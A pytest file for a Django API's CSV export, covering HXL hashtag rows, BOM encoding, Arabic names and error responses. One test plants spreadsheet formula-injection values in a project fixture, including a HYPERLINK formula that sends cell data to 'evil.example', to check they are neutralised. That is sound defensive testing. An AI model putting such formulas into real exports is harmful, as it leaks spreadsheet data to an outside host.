"""``?format=csv`` on the API's lists: UTF-8 with a BOM, Arabic intact, a
row of HXL hashtags under the header, and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import ProjectFactory, district

pytestmark = pytest.mark.django_db


def table(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = response.content
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_projects_as_csv_with_hxl_tags_and_formulas_neutralised(world, api):
    ProjectFactory(
        code="KRK-99",
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        programme=world["crp"],
        governorate=world["kirkuk"],
        donor=world["usa"],
        community="@SUM(1+1)",
        district=district("IQG13Q01"),
        location_note="-2+3",
        sector=world["livelihoods"],
    )
    response = api(world["admin"]).get("/api/v1/projects/", {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="project.csv"'
    header, tags, *rows = table(response)
    assert header[:3] == ["id", "code", "name"]
    tag_of = dict(zip(header, tags, strict=True))
    assert tag_of["governorate"] == "#adm1+code"
    assert tag_of["sector"] == "#sector+code"
    assert tag_of["budget_usd"] == "#value+usd"
    evil = next(dict(zip(header, row, strict=True)) for row in rows if row[1] == "KRK-99")
    assert evil["name"].startswith("'=HYPERLINK")
    assert evil["community"] == "'@SUM(1+1)"
    assert evil["location_note"] == "'-2+3"
    assert evil["district"] == "IQG13Q01"
    assert tag_of["district"] == "#adm2+code"
    assert evil["budget_usd"] == "100000.00"  # a number stays a number
    assert evil["governorate"] == "IQG13"


def test_arabic_names_are_intact(world, api):
    response = api(world["dora"]).get("/api/v1/governorates/", {"format": "csv"})
    header, tags, *rows = table(response)
    assert tags[header.index("pcode")] == "#adm1+code"
    assert tags[header.index("name_iom")] == "#adm1+name"
    kirkuk = next(row for row in rows if row[0] == "IQG13")
    assert kirkuk[header.index("name_ar")] == "كركوك"


def test_indicator_values_as_csv_have_the_affected_tags(world, api):
    from indicators.engine import recompute_full
    from tests.indicators.conftest import define

    define("direct-recipients", source="assistance", measure="people")
    from beneficiaries import services

    services.visit_approve(visit=world["visit_krk"], user=world["maria"])
    recompute_full()
    response = api(world["admin"]).get(
        "/api/v1/indicator-values/", {"format": "csv", "as_of": "2018-03-31", "by": "governorate"}
    )
    header, tags, *rows = table(response)
    tag_of = dict(zip(header, tags, strict=True))
    assert tag_of["sex_f"] == "#affected+f"
    assert tag_of["sex_m"] == "#affected+m"
    assert tag_of["pop_idp"] == "#affected+idps"
    assert tag_of["governorate"] == "#adm1+code"
    row = dict(zip(header, rows[0], strict=True))
    assert (row["governorate"], row["value"], row["sex_f"]) == ("IQG13", "6.00", "3")


def test_a_list_without_tags_has_a_single_header(world, api):
    response = api(world["admin"]).get("/api/v1/visits/", {"format": "csv"})
    header, tags, *rows = table(response)
    assert tags[header.index("governorate")] == "#adm1+code"
    assert len(rows) == 2


def test_errors_and_details_are_not_csv_tables(world, api):
    client = api(world["admin"])
    response = client.get("/api/v1/projects/", {"format": "csv", "governorate": "nowhere"})
    assert response.status_code == 400
    assert table(response)[0] == ["field", "message"]
    assert client.get(f"/api/v1/projects/{world['krk'].pk}/", {"format": "csv"}).status_code == 404
    assert client.get("/api/v1/surveys/", {"format": "csv"}).status_code == 404


def test_a_column_has_the_same_hashtag_over_the_api_as_in_the_downloads(world, api):
    # The API's CSV and the exports' files are tagged from one table
    # (exports.hxl): a project code is "#activity+project+code" in both.
    from exports.hxl import HXL

    client = api(world["admin"])
    header, tags, *_rows = table(client.get("/api/v1/projects/", {"format": "csv"}))
    tag_of = dict(zip(header, tags, strict=True))
    assert tag_of["code"] == HXL["project_code"] == "#activity+project+code"
    header, tags, *_rows = table(client.get("/api/v1/sectors/", {"format": "csv"}))
    assert dict(zip(header, tags, strict=True))["name"] == HXL["sector_name"] == "#sector"
    header, tags, *_rows = table(client.get("/api/v1/assistance-records/", {"format": "csv"}))
    tag_of = dict(zip(header, tags, strict=True))
    assert tag_of["people"] == HXL["people"]
    assert tag_of["f_18_59_idp"] == HXL["f_18_59_idp"] == "#affected+f+age18_59+idps"


def test_a_table_cannot_invent_a_hashtag():
    from exports.hxl import hxl_tags

    with pytest.raises(KeyError):
        hxl_tags(code="project_kode")
